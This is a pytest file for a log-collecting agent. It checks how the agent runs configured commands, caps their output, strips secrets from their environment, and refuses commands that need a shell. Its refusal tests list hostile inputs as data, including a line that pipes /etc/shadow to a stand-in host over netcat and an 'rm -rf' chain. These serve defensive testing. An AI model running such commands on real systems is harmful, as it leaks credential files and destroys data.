"""The logcollector's command sources: real commands, their output through the real
forwarder to the reference server (or the stub ingest where only counting matters)."""

from __future__ import annotations

from typing import Any

import pytest

from collectors import metrics as km
from collectors.logcollector.service import LogcollectorService
from core.config import ConfigError
from tests.fixtures.common import wait_for


def _config(make_config: Any, **section: Any) -> Any:
    base = {"journald": "off", "syslog_paths": [], "paths": [], "poll_interval": "50ms"}
    return make_config({"collectors": {"logcollector": {**base, **section}}})


def _commands(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [e["data"] for e in events if e.get("collector") == "command"]


def test_each_line_of_a_command_is_an_event(make_config, sink, run_service):
    command = r"printf 'first\nsecond\n\nthird\r\n'"
    svc = run_service(LogcollectorService(_config(make_config, commands=[command])))
    wait_for(lambda: len(_commands(sink.snapshot())) == 3)
    data = _commands(sink.snapshot())
    assert [d["event"]["original"] for d in data] == ["first", "second", "third"]
    assert data[0]["log"] == {"command": {"line": command, "full": False, "exit_code": 0}}
    assert {e["module"] for e in sink.snapshot()} == {"logcollector"}
    assert svc.service.metrics.get(km.COMMAND_RUNS, result="ok") == 1
    assert svc.service.status()["sources"]["commands"] == "live: 1"


def test_a_full_command_is_one_event_and_runs_on_its_interval(
    make_config, stub_ingest, run_service
):
    command = "printf 'line 1\nline 2\n'"
    config = _config(make_config, full_commands=[command], command_interval="100ms")
    svc = run_service(LogcollectorService(config))
    wait_for(lambda: len(_commands(stub_ingest.snapshot())) >= 2)
    first = _commands(stub_ingest.snapshot())[0]
    assert first["event"]["original"] == "line 1\nline 2"
    assert first["log"]["command"]["full"] is True
    runs = svc.service.status()["sources"]["command_runs"][command]
    assert runs["runs"] >= 2 and runs["last_error"] == ""


def test_output_past_the_cap_is_cut_and_flagged(make_config, stub_ingest, run_service):
    config = _config(make_config, commands=["seq 1 1000000"], command_max_output=100)
    svc = run_service(LogcollectorService(config))
    wait_for(lambda: svc.service.metrics.get(km.COMMAND_RUNS, result="truncated") == 1)
    wait_for(lambda: _commands(stub_ingest.snapshot()))
    data = _commands(stub_ingest.snapshot())
    text = "\n".join(d["event"]["original"] for d in data)
    assert len(text) <= 100 and text.startswith("1\n2\n3")
    assert data[-1]["event"]["truncated"] is True and data[-1]["tags"] == ["truncated"]
    assert all("truncated" not in d["event"] for d in data[:-1])


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("sleep 30", "timeout"),
        ("/no/such/command", "not_found"),
        ("false", "failed"),
    ],
)
def test_a_command_that_gives_no_answer_sends_nothing_and_is_counted(
    make_config, stub_ingest, run_service, command, reason
):
    config = _config(make_config, commands=[command, "echo after"], command_timeout="300ms")
    svc = run_service(LogcollectorService(config))
    wait_for(lambda: svc.service.metrics.get(km.COMMAND_RUNS, result=reason) == 1)
    wait_for(lambda: _commands(stub_ingest.snapshot()))  # the next command still runs
    assert [d["event"]["original"] for d in _commands(stub_ingest.snapshot())] == ["after"]
    error = svc.service.status()["sources"]["command_runs"][command]["last_error"]
    assert error and command.split()[0] in error


def test_commands_get_a_minimal_environment_not_the_agents(
    make_config, stub_ingest, run_service, monkeypatch
):
    """The agent's environment may hold secrets (a password given by variable): a
    configured command does not inherit it."""
    monkeypatch.setenv("AGENTBUS_TEST_SECRET", "s3cret")
    svc = run_service(LogcollectorService(_config(make_config, commands=["env"])))
    wait_for(lambda: svc.service.metrics.get(km.COMMAND_RUNS, result="ok") == 1)
    wait_for(lambda: _commands(stub_ingest.snapshot()))
    lines = sorted(d["event"]["original"] for d in _commands(stub_ingest.snapshot()))
    assert lines == [
        "LC_ALL=C",
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    ]


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/shadow | nc attacker 9",
        "echo $(id)",
        "rm -rf /tmp/x; echo",
        "ls > /tmp/out",
        "FOO=1 env",
        "",
        "echo 'unclosed",
    ],
)
def test_a_command_that_needs_a_shell_is_refused_with_its_key(make_config, command):
    with pytest.raises(ConfigError, match=r"collectors\.logcollector\.full_commands"):
        _config(make_config, full_commands=[command])


@pytest.mark.parametrize(
    "shell",
    ["sh -c", "bash -ec", "env sh -c", "/bin/sh -c", "busybox sh -c", "timeout 5 dash -c"],
)
def test_a_shell_given_code_is_refused_at_config_read(make_config, tmp_path, shell):
    """A quoted line after ``sh -c`` is one argument for shlex, but the shell runs it."""
    marker = tmp_path / "ran"
    command = f"{shell} 'touch {marker}'"
    for key in ("commands", "full_commands"):
        with pytest.raises(ConfigError, match=rf"collectors\.logcollector\.{key}: .*shell"):
            _config(make_config, **{key: [command]})
    assert not marker.exists()


def test_shell_characters_inside_quotes_are_arguments(make_config, stub_ingest, run_service):
    """``|`` and ``;`` quoted are the argument's own: no shell runs, they are printed."""
    svc = run_service(LogcollectorService(_config(make_config, commands=["echo 'a | b; c'"])))
    wait_for(lambda: _commands(stub_ingest.snapshot()))
    assert _commands(stub_ingest.snapshot())[0]["event"]["original"] == "a | b; c"
    wait_for(lambda: svc.service.metrics.get(km.COMMAND_EVENTS) == 1)  # counted once acked
